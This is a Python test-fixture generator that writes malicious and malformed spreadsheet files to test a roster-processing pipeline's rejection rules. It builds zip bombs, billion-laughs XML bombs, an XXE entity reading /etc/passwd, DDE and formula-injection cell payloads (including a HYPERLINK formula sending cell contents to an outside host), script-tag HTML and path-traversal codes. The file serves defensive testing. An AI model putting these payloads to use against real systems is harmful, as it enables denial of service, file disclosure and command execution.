"""Make `tests/data/hostile/`: files an attacker, a broken export or a careless clerk could put in
an inbox, for `tests/test_hostile.py` (see `hostile/README.md`, written here too).

Every file is written byte by byte here (zip and OLE containers by hand, rosters with openpyxl
and `rostergen.workbook.save_deterministic`): no LibreOffice, no network, and a re-run writes the
same bytes. What the pipeline must make of each file is written beside it (`expected.json`):
the rule that refuses it, or, for the one roster carrying formula and HTML payloads, that it is
read. The bombs are small on disk (a few hundred KB) and claim or unpack to gigabytes; none is
ever unpacked by the pipeline. Every person is invented; the payload roster is a copy of the
sample cell CB-PA01's file (`input_samples/inbox`), with its text cells replaced.

Run from the project root after `make samples` changes the samples:

    .venv/bin/python tests/data/make_hostile.py
"""

from __future__ import annotations

import datetime as dt
import io
import json
import random
import shutil
import struct
import sys
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook, load_workbook

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path[:0] = [str(HERE.parent), str(ROOT)]  # tests/ for builders, the root for rostergen
from builders import MEMBER_HEADER, member  # noqa: E402
from rostergen.workbook import save_deterministic  # noqa: E402
from pipeline.sniff import column_letters  # noqa: E402

OUT = HERE / "hostile"
INBOX = OUT / "inbox"
SAMPLES = ROOT / "input_samples" / "inbox"
STAMP = (2022, 10, 10, 8, 0, 0)

# The text a hostile roster puts in every text cell: formulas (CSV/DDE injection), HTML that
# fetches a local file or runs a script, and control characters.
PAYLOADS = [
    '=HYPERLINK("http://x/"&A1,"bấm")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    '<img src="file:///etc/passwd">',
    "<script>alert(1)</script>",
    "Dòng một\r\nDòng hai\tcột",
]
# The sample cell whose file the payload roster copies, and the day it is made (after the
# sample's own Ngày lập, so it is the file the report uses).
PAYLOAD_CELL = "CB-PA01"
PAYLOAD_MADE = dt.datetime(2022, 10, 12)

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


# ---------- containers, written by hand ----------

def zip_bytes(entries: list[tuple[str, bytes]], stored: tuple[str, ...] = ()) -> bytes:
    """A zip of `entries` (name, bytes) in order, deflated at level 9 except `stored`, with fixed times."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=STAMP)
            info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            zf.writestr(info, data, compresslevel=9)
    return buffer.getvalue()


def cell_xml(ref: str, value) -> str:
    if value is None:
        return ""
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_xml(rows: list[list], extra: str = "") -> bytes:
    """A worksheet of `rows` from A1 (inline strings), then `extra` raw rows."""
    body = "".join(f'<row r="{r}">' + "".join(cell_xml(f"{column_letters(c)}{r}", v) for c, v in enumerate(row, 1)) + "</row>"
                   for r, row in enumerate(rows, 1))
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="{MAIN_NS}">'
            f"<sheetData>{body}{extra}</sheetData></worksheet>").encode()


def xlsx_entries(sheets: list[tuple[str, bytes]], shared: bytes | None = None) -> list[tuple[str, bytes]]:
    """The parts of an .xlsx holding `sheets` (name, worksheet XML) and a shared-strings part."""
    overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
                        f'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                        for i in range(1, len(sheets) + 1))
    if shared is not None:
        overrides += ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                      'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
             'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
             'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override '
             'PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
             f'sheet.main+xml"/>{overrides}</Types>')
    package = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="{PKG_REL_NS}">'
               f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    book = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="{MAIN_NS}" xmlns:r="{REL_NS}">'
            "<sheets>" + "".join(f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"/>'
                                 for i, (name, _) in enumerate(sheets, 1)) + "</sheets></workbook>")
    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
                   for i in range(1, len(sheets) + 1))
    if shared is not None:
        rels += f'<Relationship Id="rId{len(sheets) + 1}" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/>'
    entries = [("[Content_Types].xml", types.encode()), ("_rels/.rels", package.encode()),
               ("xl/workbook.xml", book.encode()),
               ("xl/_rels/workbook.xml.rels", (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                                               f'<Relationships xmlns="{PKG_REL_NS}">{rels}</Relationships>').encode())]
    entries += [(f"xl/worksheets/sheet{i}.xml", xml) for i, (_, xml) in enumerate(sheets, 1)]
    if shared is not None:
        entries.append(("xl/sharedStrings.xml", shared))
    return entries


def info_rows(code: str) -> list[list]:
    return [["Mã đơn vị", code], ["Năm", 2022], ["Quý", 3], ["Ngày lập", "05/10/2022"]]


def member_rows(count: int = 2) -> list[list]:
    rows = [MEMBER_HEADER]
    for n in range(1, count + 1):
        values = member(f"Người Thử {n}", 1985 + n, n=n)
        rows.append([n if header == "STT" else _plain(values.get(header)) for header in MEMBER_HEADER])
    return rows


def _plain(value):
    return value.strftime("%d/%m/%Y") if isinstance(value, dt.date) else value


def roster(code: str, extra: str = "", shared: bytes | None = None, members: list[list] | None = None) -> bytes:
    """A small roster for `code` in the template's layout, `extra` raw rows under its members."""
    return zip_bytes(xlsx_entries([("Thông tin", sheet_xml(info_rows(code))),
                                   ("Đảng viên", sheet_xml(members or member_rows(), extra))], shared))


def cfb_bytes(streams: dict[str, bytes]) -> bytes:
    """A Compound File ([MS-CFB], version 3, 512-byte sectors) holding `streams` at its root.

    Each stream is padded to 4,096 bytes at least, so every one lives in ordinary sectors (no
    mini stream). The directory is a chain of right siblings, in the order [MS-CFB] 2.6.4 sorts
    names (length, then upper case)."""
    sector = 512
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    data = {n: streams[n] + b"\0" * (max(4096, -(-len(streams[n]) // sector) * sector) - len(streams[n]))
            for n in names}
    dir_sectors = -(-(len(names) + 1) // 4)
    stream_sectors = sum(len(d) // sector for d in data.values())
    fat_sectors = 1
    while fat_sectors * 128 < fat_sectors + dir_sectors + stream_sectors:
        fat_sectors += 1
    fat = [0xFFFFFFFD] * fat_sectors
    first_dir = len(fat)
    fat += [first_dir + i + 1 for i in range(dir_sectors - 1)] + [0xFFFFFFFE]
    starts = {}
    for n in names:
        count = len(data[n]) // sector
        starts[n] = len(fat)
        fat += [len(fat) + i + 1 for i in range(count - 1)] + [0xFFFFFFFE]
    fat += [0xFFFFFFFF] * (fat_sectors * 128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0"
        return (encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, 0xFFFFFFFF, right, child)
                + b"\0" * 16 + b"\0" * 4 + b"\0" * 16 + struct.pack("<IQ", start, size))

    entries = [entry("Root Entry", 5, 1 if names else 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFE, 0)]
    for i, n in enumerate(names, 1):
        entries.append(entry(n, 2, 0xFFFFFFFF, i + 1 if i < len(names) else 0xFFFFFFFF, starts[n], len(data[n])))
    directory = b"".join(entries).ljust(dir_sectors * sector, b"\0")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
              + b"\0" * 6 + struct.pack("<IIIIIIIII", 0, fat_sectors, first_dir, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
              + struct.pack("<109I", *(list(range(fat_sectors)) + [0xFFFFFFFF] * (109 - fat_sectors))))
    body = struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(data[n] for n in names)
    return header + body


# ---------- the files ----------

def deflate(data_chunks, level: int = 9) -> tuple[bytes, int, int]:
    """Raw deflate of chunks: (packed bytes, CRC-32, unpacked size), without holding the unpacked."""
    packer = zlib.compressobj(level, zlib.DEFLATED, -15)
    out, crc, size = [], 0, 0
    for chunk in data_chunks:
        out.append(packer.compress(chunk))
        crc, size = zlib.crc32(chunk, crc), size + len(chunk)
    out.append(packer.flush())
    return b"".join(out), crc, size


def raw_zip(members: list[tuple[str, bytes, int, int, int]], directory: list[tuple[str, int, int, int, int]]) -> bytes:
    """A zip assembled by hand: local `members` (name, packed, crc, size claimed, deflated 8 /
    stored 0) in order, then a central directory of `directory` entries (name, index of the local
    member it points at, crc, packed, size claimed): several entries may point at one member, and
    a claimed size may differ from the real one."""
    stamp = ((STAMP[3] << 11) | (STAMP[4] << 5) | STAMP[5] // 2, ((STAMP[0] - 1980) << 9) | (STAMP[1] << 5) | STAMP[2])
    body, offsets = b"", []
    for name, packed, crc, size, method in members:
        encoded = name.encode()
        offsets.append(len(body))
        body += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x800, method, *stamp, crc, len(packed), size,
                            len(encoded), 0) + encoded + packed
    central = b""
    for name, index, crc, packed, size in directory:
        encoded = name.encode()
        method = members[index][4]
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0x800, method, *stamp, crc, packed, size,
                               len(encoded), 0, 0, 0, 0, 0o644 << 16, offsets[index]) + encoded
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(directory), len(directory), len(central), len(body), 0)
    return body + central + end


def skeleton(sheet_count: int = 1, shared: bool = True) -> list[tuple[str, bytes]]:
    """The small parts of an .xlsx with `sheet_count` sheets (their XML left out)."""
    return [(name, data) for name, data in xlsx_entries(
        [(f"Trang {i}", b"") for i in range(1, sheet_count + 1)], b"" if shared else None)
        if not name.startswith("xl/worksheets/") and name != "xl/sharedStrings.xml"]


def deflated_members(entries: list[tuple[str, bytes]]) -> list[tuple[str, bytes, int, int, int]]:
    """`raw_zip` members of `entries`, deflated, their sizes true."""
    return [(name, zlib.compress(data, 9)[2:-4], zlib.crc32(data), len(data), 8) for name, data in entries]


def ratio_bomb() -> bytes:
    """Shared strings of 256 MB of one repeated letter, packed to about 250 KB (1,000:1)."""
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>'.encode()
    chunks = [head] + [b"A" * (1 << 20)] * 256 + [b"</t></si></sst>"]
    packed, crc, size = deflate(chunks)
    parts = deflated_members(skeleton()) + deflated_members([("xl/worksheets/sheet1.xml", sheet_xml([["x"]]))])
    parts.append(("xl/sharedStrings.xml", packed, crc, size, 8))
    return raw_zip(parts, [(name, i, crc_, len(p), size_) for i, (name, p, crc_, size_, _) in enumerate(parts)])


def overlapping_bomb(count: int = 40) -> bytes:
    """`count` sheets whose directory entries all point at one packed sheet of 100 MB: 4 GB
    claimed from about 100 KB (the overlapping-entry zip bomb)."""
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
    chunks = [head] + [b"<row/>" * (1 << 17)] * 128 + [b"</sheetData></worksheet>"]
    packed, crc, size = deflate(chunks)
    small = deflated_members(skeleton(count, shared=False))
    members = small + [("xl/worksheets/sheet1.xml", packed, crc, size, 8)]
    directory = [(name, i, crc_, len(p), size_) for i, (name, p, crc_, size_, _) in enumerate(small)]
    directory += [(f"xl/worksheets/sheet{n}.xml", len(small), crc, len(packed), size) for n in range(1, count + 1)]
    return raw_zip(members, directory)


def lying_bomb() -> bytes:
    """Shared strings claiming 2,000 bytes (nothing to worry about, by its directory) that
    unpack to 100 MB."""
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>'.encode()
    packed, crc, _ = deflate([head] + [b"B" * (1 << 20)] * 100 + [b"</t></si></sst>"])
    parts = deflated_members(skeleton()) + deflated_members([("xl/worksheets/sheet1.xml", sheet_xml([["x"]]))])
    parts.append(("xl/sharedStrings.xml", packed, crc, 2000, 8))
    return raw_zip(parts, [(name, i, crc_, len(p), size_) for i, (name, p, crc_, size_, _) in enumerate(parts)])


LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
          + "]>")


def xml_bomb_xlsx() -> bytes:
    """Billion laughs in the shared strings: ten levels of ten entities, 10⁹ "lol" once expanded."""
    shared = (f'<?xml version="1.0" encoding="UTF-8"?>\n{LAUGHS}<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1">'
              "<si><t>&lol9;</t></si></sst>").encode()
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'
             '<c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>').encode()
    return zip_bytes(xlsx_entries([("Đảng viên", sheet)], shared))


def external_entity_xlsx() -> bytes:
    """An external entity pointing at /etc/passwd, used in a shared string."""
    shared = (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
              f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>').encode()
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'
             '<c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>').encode()
    return zip_bytes(xlsx_entries([("Đảng viên", sheet)], shared))


def ods(content: str) -> bytes:
    manifest = ('<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
                'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/><manifest:file-entry '
                'manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    return zip_bytes([("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
                      ("META-INF/manifest.xml", manifest.encode()), ("content.xml", content.encode())],
                     stored=("mimetype",))


def xml_bomb_ods() -> bytes:
    return ods(f'<?xml version="1.0" encoding="UTF-8"?>\n{LAUGHS}<office:document-content xmlns:office="urn:oasis:'
               'names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="Đảng viên"><table:table-row><table:table-cell office:value-type="string">'
               "<text:p>&lol9;</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
               "</office:body></office:document-content>")


def repeated_ods() -> bytes:
    """One small row repeated a billion times, with a value in it: calamine would expand it."""
    return ods('<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content xmlns:office="urn:oasis:names:tc:'
               'opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
               '<table:table table:name="Đảng viên"><table:table-row table:number-rows-repeated="1000000000">'
               '<table:table-cell office:value-type="string" table:number-columns-repeated="100"><text:p>x</text:p>'
               "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
               "</office:document-content>")


def docx() -> bytes:
    types = ('<?xml version="1.0" encoding="UTF-8"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
             'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
             'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
    rels = (f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="{PKG_REL_NS}"><Relationship Id="rId1" '
            f'Type="{REL_NS}/officeDocument" Target="word/document.xml"/></Relationships>')
    document = ('<?xml version="1.0" encoding="UTF-8"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/'
                'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>DANH SÁCH ĐẢNG VIÊN</w:t></w:r></w:p>'
                "</w:body></w:document>")
    return zip_bytes([("[Content_Types].xml", types.encode()), ("_rels/.rels", rels.encode()),
                      ("word/document.xml", document.encode())])


def word_97() -> bytes:
    """An OLE container holding a WordDocument stream (a .doc), its FIB's magic first."""
    return cfb_bytes({"WordDocument": b"\xec\xa5\xc1\x00" + b"\0" * 508, "1Table": b"\0" * 512})


def encrypted() -> bytes:
    """Excel's "Encrypt with Password": an OLE container of EncryptionInfo (agile, version 4.4)
    and EncryptedPackage (the workbook, encrypted: here random bytes)."""
    noise = random.Random(7)
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption/>'
    package = struct.pack("<Q", 6000) + noise.randbytes(6000)
    return cfb_bytes({"EncryptionInfo": info, "EncryptedPackage": package})


HTML = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta charset="utf-8"></head><body>
<table border="1"><tr><td>STT</td><td>Họ và tên</td><td>Ngày sinh</td><td>Ghi chú</td></tr>
<tr><td>1</td><td>Nguyễn Văn Thử</td><td>01/02/1990</td><td><img src="file:///etc/passwd"></td></tr>
</table></body></html>
"""

SPREADSHEET_2003 = """<?xml version="1.0" encoding="UTF-8"?>
<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">
<Worksheet ss:Name="Đảng viên"><Table><Row><Cell><Data ss:Type="String">Họ và tên</Data></Cell></Row>
<Row><Cell><Data ss:Type="String">Nguyễn Văn Thử</Data></Cell></Row></Table></Worksheet></Workbook>
"""

CSV = "STT,Họ và tên,Ngày sinh,Giới tính\r\n1,Nguyễn Văn Thử,01/02/1990,Nam\r\n2,Trần Thị Thử,03/04/1991,Nữ\r\n"

PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def uncalculated_roster() -> bytes:
    """A roster written by a program that does not calculate: its names are formulas saved with
    no value (what openpyxl writes for `="…"`)."""
    wb = Workbook()
    info = wb.active
    info.title = "Thông tin"
    for row in info_rows("CB-PX01"):
        info.append(row)
    ws = wb.create_sheet("Đảng viên")
    for row in member_rows(3):
        ws.append(row)
    for r in range(2, 5):
        ws.cell(r, 2).value = f'="Người "&"Thử {r - 1}"'
    buffer = io.BytesIO()
    save_deterministic(wb, buffer)
    return buffer.getvalue()


def long_text_roster() -> bytes:
    """Cells of 100,000 characters (Excel holds 32,767 at most), in a roster of a code no register has."""
    rows = member_rows(2)
    note = MEMBER_HEADER.index("Ghi chú")
    rows[1][note] = "Ghi chú rất dài. " * 6_000
    rows[2][1] = "Nguyễn Văn " + "A" * 100_000
    return roster("CB-KHONG-CO", members=rows)


def path_like(code: str) -> bytes:
    wb = Workbook()
    info = wb.active
    info.title = "Thông tin"
    for row in [["Mã đơn vị", code], ["Tên đơn vị", "../../etc/passwd"], ["Năm", 2022], ["Quý", 3]]:
        info.append(row)
    ws = wb.create_sheet("Đảng viên")
    for row in member_rows(2):
        ws.append(row)
    buffer = io.BytesIO()
    save_deterministic(wb, buffer)
    return buffer.getvalue()


def _sample_ids() -> dict[str, int]:
    """How many times each citizen ID appears in the sample inbox (a payload must not replace an
    ID another cell lists too, or the person would be counted twice)."""
    counts: dict[str, int] = {}
    for path in SAMPLES.glob("*.xlsx"):
        book = load_workbook(path, read_only=True)
        for ws in book.worksheets:
            for row in ws.iter_rows(values_only=True):
                for value in row:
                    if isinstance(value, str) and value.isdigit() and len(value) == 12:
                        counts[value] = counts.get(value, 0) + 1
        book.close()
    return counts


def payload_roster() -> tuple[bytes, int]:
    """The sample cell's own roster with every text cell of the people admitted before this year
    replaced by a payload, and a later Ngày lập: the report uses it instead of the sample's file,
    and its figures must not move (the payloads touch no figure of people admitted before the year
    of the report: names still name them, and their gender, ethnic group, religion and youth union
    count only for the year's admissions). → (bytes, number of payload cells)."""
    source = next(SAMPLES.glob(f"{PAYLOAD_CELL}_*.xlsx"))
    wb = load_workbook(source)
    info = wb["Thông tin"]
    for row in info.iter_rows():
        if row[0].value == "Ngày lập":
            row[1].value = PAYLOAD_MADE
        if row[0].value == "Người lập":
            row[1].value = PAYLOADS[6]
    ids = _sample_ids()
    count = 0
    turn = iter(range(10**6))
    for title, date_header, text_headers in (
            ("Đảng viên", "Ngày vào Đảng", ("Họ và tên", "Giới tính", "Dân tộc", "Tôn giáo", "Số CCCD", "Đoàn viên",
                                            "Trình độ chuyên môn", "Ghi chú")),
            ("Quần chúng ưu tú", None, ("Họ và tên", "Giới tính", "Dân tộc", "Số CCCD", "Đảng viên giúp đỡ 1",
                                        "Đảng viên giúp đỡ 2", "Đoàn viên", "Ghi chú"))):
        ws = wb[title]
        header_row = next(r for r in ws.iter_rows() if any(c.value == "Họ và tên" for c in r))
        columns = {c.value: c.column for c in header_row if c.value}
        for r in range(header_row[0].row + 1, ws.max_row + 1):
            if ws.cell(r, columns["Họ và tên"]).value in (None, ""):
                continue
            admitted = ws.cell(r, columns[date_header]).value if date_header else None
            if date_header and not (isinstance(admitted, dt.datetime) and admitted.year < 2022):
                continue
            for header in text_headers:
                cell = ws.cell(r, columns[header])
                if header == "Số CCCD" and ids.get(str(cell.value), 0) != 1:
                    continue
                if header == "Họ và tên" and title == "Quần chúng ưu tú":
                    cell.value = f"Quần chúng {r} {PAYLOADS[next(turn) % len(PAYLOADS)]}"
                else:
                    cell.value = PAYLOADS[next(turn) % len(PAYLOADS)] if header != "Họ và tên" else \
                        f"{cell.value} {PAYLOADS[next(turn) % len(PAYLOADS)]}"
                cell.data_type = "s"   # text that looks like a formula, as a clerk's paste leaves it
                count += 1
    buffer = io.BytesIO()
    save_deterministic(wb, buffer)
    return buffer.getvalue(), count


def main() -> None:
    cases: dict[str, tuple[bytes, str, str]] = {
        # name: (bytes, rule expected, what it is)
        "CB-PC01 bom-nen.xlsx": (ratio_bomb(), "FILE_SUSPICIOUS",
                                 "zip bomb: shared strings of 256 MB packed 1,000:1"),
        "CB-PC03 bom-nen-chong-lan.xlsx": (overlapping_bomb(), "FILE_SUSPICIOUS",
                                           "zip bomb: 40 directory entries on one 100 MB sheet, 4 GB claimed"),
        "CB-PA05 bom-nen-khai-sai.xlsx": (lying_bomb(), "FILE_SUSPICIOUS",
                                          "zip bomb: shared strings claiming 2,000 bytes, unpacking to 100 MB"),
        "CB-PC02 bom-xml.xlsx": (xml_bomb_xlsx(), "FILE_SUSPICIOUS", "billion laughs in xl/sharedStrings.xml"),
        "CB-PC04 bom-xml.ods": (xml_bomb_ods(), "FILE_SUSPICIOUS", "billion laughs in an .ods content.xml"),
        "CB-PC06 thuc-the-ngoai.xlsx": (external_entity_xlsx(), "FILE_SUSPICIOUS",
                                        "an external entity (SYSTEM \"file:///etc/passwd\") in the shared strings"),
        "CB-PC07 qua-nhieu-dong.xlsx": (roster("CB-PC07", '<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
                                        "FILE_TOO_LARGE", "a roster with a value in row 1,048,576"),
        "CB-PC09 qua-nhieu-cot.xlsx": (roster("CB-PC09", '<row r="9"><c r="XFD9"><v>1</v></c></row>'),
                                       "FILE_TOO_LARGE", "a roster with a value in column XFD (16,384)"),
        "CB-PC10 qua-nhieu-o.xlsx": (roster("CB-PC10", '<row r="150000"><c r="ET150000"><v>1</v></c></row>'),
                                     "FILE_TOO_LARGE", "150,000 rows × 150 columns: 22.5 million cells, each within its own limit"),
        "CB-PH10 lap-dong.ods": (repeated_ods(), "FILE_TOO_LARGE", "an .ods row with values repeated 10⁹ times"),
        "chuoi-qua-dai.xlsx": (long_text_roster(), "UNIT_UNKNOWN",
                               "cells of 100,000 characters (cut to 32,767, CELL_TOO_LONG), of a code no register has"),
        "CB-PA01 cat-ngan.xlsx": ((SAMPLES / "CB-PA01_2022-Q3.xlsx").read_bytes()[:3000], "FILE_UNREADABLE",
                                  "a sample roster cut short after 3,000 bytes"),
        "CB-PA02 ngau-nhien.xlsx": (random.Random(13).randbytes(4096), "FILE_NOT_SPREADSHEET",
                                    "random bytes named .xlsx"),
        "CB-PA04 xuat-tu-phan-mem.xls": (HTML.encode(), "FILE_NOT_SPREADSHEET",
                                         "an HTML table saved as .xls, as web systems export"),
        "CB-PA08 van-ban-word.xlsx": (docx(), "FILE_NOT_SPREADSHEET", "a Word document (.docx) renamed .xlsx"),
        "CB-PA09 word-cu.xls": (word_97(), "FILE_NOT_SPREADSHEET", "a Word 97–2003 document (.doc) renamed .xls"),
        "CB-PV01 mat-khau.xlsx": (encrypted(), "FILE_PROTECTED",
                                  "an OLE container of EncryptionInfo and EncryptedPackage (a password)"),
        "CB-PV06 excel-2003.xls": (SPREADSHEET_2003.encode(), "FILE_NOT_SPREADSHEET",
                                   "Excel 2003 XML Spreadsheet saved as .xls"),
        "CB-PX03 danh-sach.xlsx": (CSV.encode(), "FILE_NOT_SPREADSHEET", "a CSV file renamed .xlsx"),
        "CB-TTG-01 ban-in.xlsx": (PDF, "FILE_NOT_SPREADSHEET", "a PDF renamed .xlsx"),
        "CB-TTG-02 rong.xlsx": (b"", "FILE_NOT_SPREADSHEET", "an empty file (0 bytes)"),
        "CB-PX01 cong-thuc-chua-tinh.xlsx": (uncalculated_roster(), "FORMULA_NOT_CALCULATED",
                                             "names as formulas saved with no computed value"),
        "ma-duong-dan-1.xlsx": (path_like("../../x"), "UNIT_UNKNOWN", "Mã đơn vị \"../../x\""),
        "ma-duong-dan-2.xlsx": (path_like("..\\x"), "UNIT_UNKNOWN", "Mã đơn vị \"..\\x\""),
    }
    payload, count = payload_roster()
    cases[f"{PAYLOAD_CELL} ban gui lai.xlsx"] = (
        payload, "", f"the sample cell {PAYLOAD_CELL}'s roster, {count} text cells replaced by formula, HTML and "
                     "control-character payloads, Ngày lập 12/10/2022: read and used")
    if OUT.exists():
        shutil.rmtree(OUT)
    INBOX.mkdir(parents=True)
    for name, (data, _, _) in cases.items():
        (INBOX / name).write_bytes(data)
    expected = {name: {"rule": rule or None, "status": "accepted" if not rule else "rejected", "what": what}
                for name, (_, rule, what) in sorted(cases.items())}
    expected["_payload"] = {"cell": PAYLOAD_CELL, "file": f"{PAYLOAD_CELL} ban gui lai.xlsx", "payloads": PAYLOADS}
    (OUT / "expected.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    lines = ["# Hostile inbox", "", "<!-- Written by tests/data/make_hostile.py; do not edit by hand. -->", "",
             "Files an attacker, a broken export or a careless clerk could put in an inbox. "
             "`tests/test_hostile.py` reads them in one report beside the samples (`input_samples/inbox`); "
             "`expected.json` says what each must give.", "",
             "| file | bytes | rule | what it is |", "|---|---|---|---|"]
    for name, (data, rule, what) in sorted(cases.items()):
        lines.append(f"| `{name}` | {len(data):,} | {rule or 'read, used'} | {what} |")
    (OUT / "README.md").write_text("\n".join(lines) + "\n", encoding="utf-8")
    total = sum(len(data) for data, _, _ in cases.values())
    print(f"wrote {len(cases)} files, {total:,} bytes, into {INBOX}")


if __name__ == "__main__":
    main()
